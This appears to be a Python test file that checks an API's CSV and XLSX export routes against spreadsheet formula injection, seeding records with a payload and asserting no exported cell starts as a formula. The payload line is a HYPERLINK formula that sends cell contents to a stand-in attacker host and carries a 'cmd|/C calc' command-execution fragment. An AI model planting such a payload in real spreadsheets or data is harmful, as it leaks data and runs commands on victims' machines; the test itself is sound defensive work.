"""No export opens as a formula: every route that answers with a sheet, over a city whose every name is one."""

import csv
import io
from datetime import UTC, datetime, timedelta
from typing import Any
from uuid import uuid4

import openpyxl
import psycopg

from api.app import create_app
from api.routes.devices_import import XLSX
from tests.support.described import description
from tests.support.served_api import AIR, api_context, client_of

FORMULA = '=HYPERLINK("http://evil.example/"&A1,"@SUM(1+1)*cmd|/C calc!A0")'
BEGINNINGS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
ASKED = {
    "GET /api/v1/audit/export.csv": {},
    "GET /api/v1/catalogue:export": {},
    "GET /api/v1/devices:export": {},
    "GET /api/v1/devices:template": {"format": "csv"},
    "POST /api/v1/devices:import": {"report": "csv"},
    "GET /api/v1/drills/{drill_id}/result": {"format": "csv"},
    "GET /api/v1/device-tests/{test_id}/result": {"format": "csv"},
    "GET /api/v1/case-tables/{kind}:example": {},
    "GET /api/v1/handovers/{handover_id}/log.csv": {},
    "GET /api/v1/indicators/cameras": {"format": "csv", "by": "organisation"},
    "GET /api/v1/indicators/cases": {"format": "csv", "by": "organisation"},
}
"""Routes that answer with a sheet, and what they are asked with."""
HANDOVER = """
insert into handover (id, rota, rota_name, organisation, zone, begins_at, change_at, outgoing, incoming, substitutes,
                      made_by, note)
values (%(id)s, 'r', %(f)s, 'o', 'Asia/Shanghai', now() - interval '1 hour', now(), '{}', '{}', '[]',
        gen_random_uuid(), %(f)s)"""


def answering_with_sheets(document: dict[str, Any]) -> set[str]:
    return {
        f"{method.upper()} {path}"
        for path, operations in document["paths"].items()
        for method, operation in operations.items()
        for answer in operation["responses"].values()
        if {"text/csv", XLSX} & answer.get("content", {}).keys()
    }


def harmful(cells: list[str]) -> list[str]:
    """Those that a spreadsheet takes for formulas; numbers are none."""

    def number(cell: str) -> bool:
        try:
            float(cell)
        except ValueError:
            return False
        return True

    return [cell for cell in cells if cell.strip(" ").startswith(BEGINNINGS) and not number(cell)]


def cells_of(content: bytes, separator: str) -> list[str]:
    lines = csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=separator)
    return [cell for line in lines for cell in line]


async def test_every_sheet_is_harmless(database: str) -> None:
    async with api_context(database) as context, client_of(context) as client:
        client.event_hooks["response"].clear()
        assert answering_with_sheets(description(create_app(context)).document) == ASKED.keys(), "name a new one above"
        (await client.put("/organisations/o", json={"name": FORMULA})).raise_for_status()
        (await client.put("/profiles/air", json={**AIR, "name": FORMULA, "category": FORMULA[:50]})).raise_for_status()
        device = {"name": FORMULA, "profile": "air", "organisation": "o", "tags": {FORMULA: FORMULA}}
        (await client.put("/devices/a", json=device)).raise_for_status()
        with psycopg.connect(database, autocommit=True) as conn:
            conn.execute("insert into audit (actor, action, subject) values (%(f)s, %(f)s, %(f)s)", {"f": FORMULA})
        ends_at = (datetime.now(UTC) + timedelta(minutes=5)).isoformat()
        alert = {"title": FORMULA, "level": "blue", "region": "330106001002"}
        drill = {"name": FORMULA, "consumers": [], "ends_at": ends_at, "alerts": [alert]}
        test = {"devices": ["a"], "reason": FORMULA, "until": ends_at}
        ids = {
            name: (await client.post(path, json=body)).raise_for_status().json()["id"]
            for name, path, body in (("drill_id", "/drills", drill), ("test_id", "/device-tests", test))
        }
        ids |= {"kind": "categories", "handover_id": str(uuid4())}
        with psycopg.connect(database, autocommit=True) as conn:
            conn.execute(HANDOVER, {"id": ids["handover_id"], "f": FORMULA})
        report = {"title": FORMULA, "region": "330106001002", "organisation": "o"}
        (await client.post("/cases", json=report)).raise_for_status()
        seen = 0
        for route, params in ASKED.items():
            method, path = route.split(" ")
            sheet = f'code,name,profile\n"{FORMULA.replace(chr(34), chr(34) * 2)}",x,{FORMULA[:30]!r}\n'
            body = {"content": sheet.encode(), "headers": {"content-type": "text/csv"}} if method == "POST" else {}
            address = f"http://127.0.0.1{path.format(**ids)}"
            answer = await client.request(method, address, params=params, **body)  # type: ignore[arg-type]
            assert answer.headers["content-type"].startswith("text/csv"), (route, answer.text)
            assert answer.headers["content-disposition"].startswith("attachment; "), route
            for separator in ",;\t":
                assert harmful(cells_of(answer.content, separator)) == [], route
            seen += "HYPERLINK" in answer.text
        assert seen >= 4
        packed = await client.get("/devices:export", params={"format": "xlsx"})
        [sheet_] = openpyxl.load_workbook(io.BytesIO(packed.content)).worksheets
        assert [cell.value for row in sheet_.iter_rows() for cell in row if cell.data_type == "f"] == []
